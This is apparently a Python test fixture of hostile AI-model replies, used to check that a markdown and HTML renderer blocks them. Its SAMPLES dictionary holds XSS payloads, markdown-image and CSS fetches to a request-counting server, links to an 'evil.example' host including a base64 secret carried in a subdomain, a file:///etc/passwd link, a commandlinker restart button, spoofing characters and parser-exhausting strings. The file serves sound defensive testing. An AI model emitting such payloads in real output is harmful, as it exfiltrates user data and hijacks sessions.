"""Replies that a hostile model could write: each wants to run, to fetch, to hide or to stall."""

# ruff: noqa: E501 - a sample stands on one line, as a model would write it

from __future__ import annotations

HOST = "http://127.0.0.1:{port}"
"""Filled with the port of a server that counts requests; each sample asks for a path of its own."""

SAMPLES: dict[str, str] = {
    "script": "<script>fetch('{host}/script')</script>",
    "script-in-list": "- a\n- <script src='{host}/script-in-list'></script>\n",
    "script-split": "<scr\n\nipt>fetch('{host}/script-split')</scr\n\nipt>",
    "img-onerror": "<img src=x onerror=\"fetch('{host}/img-onerror')\">",
    "img-tag": "<img src='{host}/img-tag'>",
    "md-image": "![a picture]({host}/md-image.png)",
    "md-image-title": "![a]({host}/md-image-title.png \"x' onload='fetch(1)\")",
    "md-image-reference": "![a][ref]\n\n[ref]: {host}/md-image-reference.png",
    "md-image-in-link": "[![a]({host}/md-image-in-link.png)]({host}/click)",
    "md-image-in-table": "| a |\n|---|\n| ![x]({host}/md-image-in-table.png) |",
    "md-image-in-heading": "# ![x]({host}/md-image-in-heading.png)",
    "md-image-data-svg": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "md-image-protocol-relative": "![x](//127.0.0.1:{port}/md-image-protocol-relative)",
    "md-image-attachment": "![x](attachment:secret.png) ![y](files/secret.png)",
    "style-background": "<div style=\"background-image:url('{host}/style-background')\">x</div>",
    "style-list": "<ul style=\"list-style-image:url('{host}/style-list')\"><li>x</ul>",
    "style-element": "<style>@import '{host}/style-element';</style>",
    "link-stylesheet": "<link rel=stylesheet href='{host}/link-stylesheet'>",
    "link-prefetch": "<link rel=prefetch href='{host}/link-prefetch'>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url={host}/meta-refresh'>",
    "base": "<base href='{host}/base/'>[a](b)",
    "iframe": "<iframe src='{host}/iframe'></iframe>",
    "iframe-srcdoc": "<iframe srcdoc=\"<img src='{host}/iframe-srcdoc'>\"></iframe>",
    "object": "<object data='{host}/object'></object><embed src='{host}/object-embed'>",
    "video-poster": "<video poster='{host}/video-poster' src='{host}/video'></video>",
    "audio": "<audio src='{host}/audio' autoplay></audio>",
    "source-set": "<picture><source srcset='{host}/source-set'><img srcset='{host}/s 1x'></picture>",
    "input-image": "<input type=image src='{host}/input-image'>",
    "form": "<form action='{host}/form'><button autofocus>go</button></form>",
    "svg-image": "<svg><image href='{host}/svg-image'/></svg>",
    "svg-script": "<svg><script>fetch('{host}/svg-script')</script></svg>",
    "svg-use": "<svg><use href='{host}/svg-use#x'/></svg>",
    "math-link": "<math><maction actiontype=statusline xlink:href='{host}/math-link'>x</maction></math>",
    "details-toggle": "<details open ontoggle=\"fetch('{host}/details-toggle')\"><summary>x</summary></details>",
    "template": "<template><img src='{host}/template'></template>",
    "noscript": "<noscript><p title=\"</noscript><img src='{host}/noscript'>\"></noscript>",
    "comment-breakout": "<!--><img src='{host}/comment-breakout'>-->",
    "cdata": "<![CDATA[><img src='{host}/cdata'>]]>",
    "mermaid": "```mermaid\ngraph TD; A[\"<img src='{host}/mermaid'>\"]\n```",
    "mermaid-tilde": "~~~mermaid\ngraph TD; A[\"<img src='{host}/mermaid-tilde'>\"]\n~~~",
    "fence-info": '```python" onmouseover="fetch(\'{host}/fence-info\')" x="\nx = 1\n```',
    "fence-breakout": "```html\n</code></pre><img src='{host}/fence-breakout'>\n```",
    "indented-breakout": "    </code></pre><img src='{host}/indented-breakout'>\n",
    "code-breakout": "`</code><img src='{host}/code-breakout'>`",
    "vega": '```vega-lite\n{"data": {"url": "{host}/vega"}}\n```',
    "javascript-link": "[click](javascript:fetch('{host}/javascript-link'))",
    "javascript-link-cased": "[click](JaVaScRiPt:alert(1)) [b](java&#115;cript:alert(1)) <javascript:alert(1)>",
    "data-link": "[click](data:text/html,<script>alert(1)</script>) [v](vbscript:x)",
    "file-link": "[click](file:///etc/passwd) [b](/api/shutdown) [c](//evil.example/x) [d](#top)",
    "link-user-name": "[bank](https://bank.example@evil.example/) [b](https://bank.example\\@evil.example)",
    "link-quotes": '[a](<https://example.com/" onmouseover="alert(1)>) [b](https://example.com/\'x)',
    "link-title": '[a](https://example.com "x\\" onclick=\\"alert(1)")',
    "link-prefetch-host": "[a](https://c2VjcmV0LXRoYXQtd2FzLXJlYWQtZnJvbS1hLWZpbGU.evil.example/)",
    "autolink": '<https://127.0.0.1:{port}/autolink> https://example.com/"><img src=x>',
    "reference-breakout": "[a]: javascript:alert(1)\n\n[a] [a][a] ![a]",
    "commandlinker": '<button data-commandlinker-command="apputils:change-theme">x</button>',
    "commandlinker-link": "<a data-commandlinker-command='runmenu:restart-and-run-all' href=#>x</a>",
    "clobber": "<a id=body name=querySelector></a><form id=document><input name=cookie></form>",
    "heading-anchor": '# <a id="x"></a> {#main .jp-Notebook onclick=x}\n\n## constructor\n\n### __proto__',
    "mathjax": "$\\href{javascript:alert(1)}{x}$ $$\\require{html}\\style{background:url({host}/mathjax)}{x}$$",
    "mathjax-brackets": "\\(\\includegraphics{{host}/mathjax-brackets}\\) \\[x\\]",
    "mathjax-environment": "\\begin{equation}\\cssId{body}{\\class{jp-Notebook}{x}}\\end{equation}",
    "price": "It costs $5 here and $7 there, `$HOME` and ``$$``.",
    "ansi": "\x1b[31mred\x1b[0m \x1b]8;;{host}/ansi\x07link\x1b]8;;\x07 \x1b[2J\x1b[H\x9b1mx",
    "terminal-title": "\x1b]0;owned\x07\x1bP$q\x1b\\ \x1b",
    "bidi": "safe\u202egpj.exe\u202c \u2066x\u2069 \u200ehidden\u200f",
    "zero-width": "pay\u200bpal\ufeff \u2060x \U000e0041\U000e0042 a\u200db",
    "control": "a\x00b\x07c\x08d\rsecret\x0b\x0c\x7f\x85\u2028\u2029",
    "surrogate": "half \ud83d and \udc00",
    "entities": "&lt;img src={host}/entities&gt; &#60;script&#62; &#x3c;b&#x3e; &NewLine;",
    "nested-brackets": "[" * 3_000 + "x" + "]" * 3_000,
    "nested-quotes": ">" * 5_000 + " x",
    "nested-list": "".join("  " * depth + "- a\n" for depth in range(200)),
    "emphasis": "*a _b " * 3_000,
    "backticks": "".join("`" * n + "a" for n in range(1, 400)),
    "links-unclosed": "[a](" * 5_000,
    "html-unclosed": "<a <!-- " * 5_000,
    "long-line": "x" * 300_000,
    "many-fences": "```\n" * 3_001,
    "table-wide": "|" + "a|" * 3_000 + "\n|" + "-|" * 3_000 + "\n",
    "pygments": "```html\n" + "<" * 15_000 + "\n```\n```python\n" + '"""' * 3_000 + "\n```",
    "wall-words": 'class="mathjax_process" style="position:fixed;inset:0" </div></div></details>',
    "card-words": "✓ Locked quiet-heron local home proven 12:04:31\n\n<div style='opacity:0'>x",
}


def fill(text: str, port: int) -> str:
    """Give a sample whose addresses lead to the counting server."""
    return text.replace("{host}", HOST.format(port=port)).replace("{port}", str(port))


def samples(port: int) -> dict[str, str]:
    """Give all samples for the counting server on this port."""
    return {name: fill(text, port) for name, text in SAMPLES.items()}
